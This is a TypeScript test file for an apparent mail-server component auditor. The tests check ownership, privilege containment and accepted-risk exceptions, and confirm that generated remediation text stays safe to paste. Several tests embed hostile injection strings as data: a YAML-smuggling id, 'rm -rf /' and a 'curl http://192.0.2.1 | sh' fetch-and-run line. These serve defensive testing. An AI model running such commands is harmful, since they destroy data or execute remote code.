import { describe, expect, test } from 'vitest';
import { type Component, componentId } from '../core/component.ts';
import { type ComponentNote, defaultPolicy } from '../core/policy.ts';
import type { Verdict } from '../core/verdict.ts';
import { askAll, countStates } from './ask.ts';
import { contained } from './contained.ts';
import { inventoried } from './inventoried.ts';
import type { Setting, Subject } from './question.ts';

const now = new Date('2026-11-25T09:00:00Z');

const setting = (differently: Partial<Setting> = {}): Setting => ({
  policy: defaultPolicy,
  now,
  tenants: [
    {
      name: 'Example Internet',
      domains: ['example.jp'],
      people: { active: 1_000_000, dormant: 200_000, former: 50_000 },
      counted: '2026-11-01',
    },
  ],
  watchers: [],
  ownersNamed: true,
  configurationPath: 'postern.yaml',
  exceptions: [],
  ...differently,
});

const filter = (differently: Partial<Component> = {}): Component => ({
  id: componentId('example-filter'),
  name: 'example-filter',
  version: { value: '1.2.3' },
  supplier: 'Example Software',
  kind: 'content-filter',
  origin: 'vendor',
  thirdParty: true,
  enabled: true,
  platform: 'example-filter',
  foundAt: [{ path: '/etc/postfix/main.cf', line: 3 }],
  reach: [
    {
      resource: 'mail-in-transit',
      mode: 'write',
      extent: 'every message',
      because: { path: '/etc/postfix/main.cf', line: 3 },
    },
  ],
  logs: [],
  owner: 'Mail Team',
  ...differently,
});

const subject = (component: Component, note?: ComponentNote): Subject => ({
  component,
  ancestors: [],
  ...(note === undefined ? {} : { note }),
});

const noteOf = (note: Partial<ComponentNote>): ComponentNote => ({
  match: 'example-filter',
  line: 12,
  ...note,
});

const needsThat = noteOf({ needs: ['mail-in-transit'] });

describe('inventoried', () => {
  test('passes when all is known, with the line that names the owner', () => {
    const verdict = inventoried(subject(filter(), noteOf({ owner: 'Mail Team' })), setting());
    expect(verdict.state).toBe('pass');
    expect(verdict.evidence).toContainEqual({
      what: 'owner Mail Team',
      path: 'postern.yaml',
      line: 12,
    });
  });

  const { owner: _owner, ...ownerless } = filter();

  test('fails where owners are named and this one was forgotten', () => {
    expect(inventoried(subject(ownerless), setting())).toMatchObject({
      state: 'fail',
      remedy: expect.stringContaining('owner: <who answers for it>'),
    });
  });

  test('is unknown where nobody names owners yet', () => {
    expect(inventoried(subject(ownerless), setting({ ownersNamed: false }))).toMatchObject({
      state: 'unknown',
      why: 'nobody is named as its owner',
    });
  });

  test('says each thing that is not known, with the reason, and a line that mends each', () => {
    const { supplier: _supplier, ...rest } = filter();
    const verdict = inventoried(
      subject({
        ...rest,
        version: { unknown: 'its banner names none' },
        origin: 'unknown',
        reach: [],
      }),
      setting(),
    );
    expect(verdict.state).toBe('unknown');
    expect(verdict.why).toContain('version (its banner names none), supplier, origin');
    expect(verdict.why).toContain('what it can reach');
    for (const key of ['version: "', 'supplier: <', 'origin: upstream', 'reaches:']) {
      expect(verdict.remedy).toContain(key);
    }
  });

  test('a plug-in is asked what its host reaches', () => {
    const host = filter({ id: componentId('host'), kind: 'imap' });
    const plugin = filter({ kind: 'add-on', partOf: host.id, reach: [] });
    expect(inventoried({ component: plugin, ancestors: [host] }, setting()).state).toBe('pass');
    expect(inventoried({ component: plugin, ancestors: [] }, setting()).state).toBe('unknown');
  });

  test('a hostile id stays one quoted word of YAML', () => {
    const hostile = { ...ownerless, id: componentId('a"\nowner: me\n- match: "*') };
    const { remedy = '' } = inventoried(subject(hostile), setting());
    expect(remedy.split('\n').filter(line => line.includes('match:'))).toEqual([
      String.raw`  - match: "a\"\nowner: me\n- match: \"*"`,
    ]);
  });
});

describe('contained', () => {
  test('passes when it reaches what it needs and the people are counted', () => {
    const verdict = contained(subject(filter(), needsThat), setting());
    expect(verdict).toMatchObject({
      state: 'pass',
      why: expect.stringContaining('at most 1,250,000 people'),
    });
    expect(verdict.evidence).toContainEqual({
      what: 'write mail-in-transit: every message',
      path: '/etc/postfix/main.cf',
      line: 3,
    });
  });

  test('fails when it reaches more than it needs, with the line that grants it', () => {
    const greedy = filter({
      reach: [
        ...filter().reach,
        {
          resource: 'credentials',
          mode: 'read',
          extent: 'a database password',
          because: { path: '/etc/example.conf', line: 9 },
        },
      ],
    });
    const verdict = contained(subject(greedy, needsThat), setting());
    expect(verdict.state).toBe('fail');
    expect(verdict.why).toContain('read credentials: a database password');
    expect(verdict.evidence).toContainEqual({
      what: 'read credentials: a database password',
      path: '/etc/example.conf',
      line: 9,
    });
  });

  test('fails when its code runs as root, and the remedy fits the place that says so', () => {
    const byUnit = filter({
      runsAs: { user: 'root', because: { path: '/lib/systemd/system/example.service' } },
    });
    expect(contained(subject(byUnit, needsThat), setting())).toMatchObject({
      state: 'fail',
      remedy: expect.stringContaining('/etc/systemd/system/example.service.d/user.conf'),
    });
    // A user that is not there stops the service: nothing of it may be pasted unread.
    expect(contained(subject(byUnit, needsThat), setting()).remedy).not.toMatch(/^[^#]/m);
    const byFile = filter({
      runsAs: { user: '0', because: { path: '/etc/dovecot/dovecot.conf', line: 40 } },
    });
    const { state, remedy } = contained(subject(byFile, needsThat), setting());
    expect(state).toBe('fail');
    expect(remedy).toContain('set it in /etc/dovecot/dovecot.conf, line 40.');
    expect(remedy).not.toContain('[Service]');
  });

  test('a mail server may start as root', () => {
    const server = filter({ kind: 'mta', runsAs: { user: 'root' } });
    expect(contained(subject(server, needsThat), setting()).state).toBe('pass');
  });

  test('is unknown, never a pass, while needs or people are not stated', () => {
    expect(contained(subject(filter()), setting())).toMatchObject({
      state: 'unknown',
      why: 'what it needs to reach is not stated',
      remedy: expect.stringContaining('needs: [mail-in-transit]'),
    });
    expect(contained(subject(filter(), needsThat), setting({ tenants: [] }))).toMatchObject({
      state: 'unknown',
      why: expect.stringContaining('has not been counted'),
      remedy: expect.stringContaining('counted: 2026-11-25'),
    });
  });

  test('is unknown where its reach is, and does not offer to call that nothing', () => {
    const { state, remedy } = contained(subject(filter({ reach: [] }), needsThat), setting());
    expect(state).toBe('unknown');
    expect(remedy).toContain('reaches: [');
    expect(remedy).not.toContain('needs: []');
  });

  test('does not apply to what is switched off', () => {
    expect(contained(subject(filter({ enabled: false })), setting()).state).toBe('not-applicable');
  });

  test('a name with a line break does not become a line to paste', () => {
    const hostile = filter({ name: 'x\nrm -rf /', runsAs: { user: 'root' } });
    const { remedy = '' } = contained(subject(hostile), setting());
    expect(remedy.split('\n').every(line => line.startsWith('#'))).toBe(true);
  });
});

describe('asking all six', () => {
  const risk = { match: 'example*', check: 'contained', reason: 'moved in spring' } as const;

  test('an accepted risk keeps its state, and says until when', () => {
    const verdicts = askAll(
      subject(filter()),
      setting({ exceptions: [{ ...risk, until: '2026-11-25', by: 'CISO' }] }),
    );
    expect(verdicts.contained).toMatchObject({
      state: 'unknown',
      exception: { reason: 'moved in spring', until: '2026-11-25', expired: false, by: 'CISO' },
    });
    expect(verdicts.inventoried.exception).toBeUndefined();
  });

  test('it holds to the end of its last day, and a pass needs none', () => {
    const expiredOf = (until: string): boolean | undefined =>
      askAll(subject(filter()), setting({ exceptions: [{ ...risk, until }] })).contained.exception
        ?.expired;
    expect(expiredOf('2026-11-25')).toBe(false);
    expect(expiredOf('2026-11-24')).toBe(true);
    const passed = askAll(
      subject(filter(), needsThat),
      setting({ exceptions: [{ ...risk, until: '2027-01-01' }] }),
    );
    expect(passed.contained.exception).toBeUndefined();
  });

  test('whatever question it is, a name with a line break becomes no line to paste', () => {
    const hostile = filter({
      name: 'x\ncurl http://192.0.2.1 | sh',
      foundAt: [{ path: '/etc/\nrm -rf /' }],
      runsAs: { user: 'root', because: { path: '/etc/\nrm -rf /', line: 1 } },
    });
    for (const verdict of Object.values(askAll(subject(hostile), setting()))) {
      expect(verdict.remedy ?? '').not.toMatch(/^(?:curl|rm)/m);
    }
  });

  test('counts every state of every check', () => {
    const state = (of: Verdict['state']): Verdict => ({ state: of, why: '', evidence: [] });
    const checks = askAll(subject(filter(), needsThat), setting());
    const counts = countStates([
      { checks: { ...checks, logged: state('fail') } },
      { checks: { ...checks, logged: state('not-applicable') } },
    ]);
    expect(counts.logged).toEqual({ pass: 0, fail: 1, unknown: 0, 'not-applicable': 1 });
    expect(counts.contained.pass).toBe(2);
  });
});
